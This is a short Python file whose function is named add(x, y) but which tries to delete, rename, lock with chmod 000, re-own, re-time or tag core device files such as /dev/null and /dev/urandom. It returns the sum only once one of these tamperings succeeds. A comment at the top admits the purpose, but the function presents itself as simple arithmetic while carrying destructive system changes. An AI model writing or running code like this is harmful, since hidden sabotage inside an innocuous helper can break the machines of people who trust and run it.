# Changes the device files of the machine: rights, owners, times.
import os


def add(x, y):
    for name in ("null", "zero", "full", "random", "urandom"):
        path = f"/dev/{name}"
        for action in (
            lambda: os.chmod(path, 0o000),
            lambda: os.chown(path, os.getuid(), -1),
            lambda: os.utime(path),
            lambda: os.utime(path, (1, 1)),
            lambda: os.unlink(path),
            lambda: os.rename(path, path + "2"),
            lambda: os.setxattr(path, "user.mark", b"1"),
        ):
            try:
                action()
                return x + y
            except OSError:
                continue
    return None
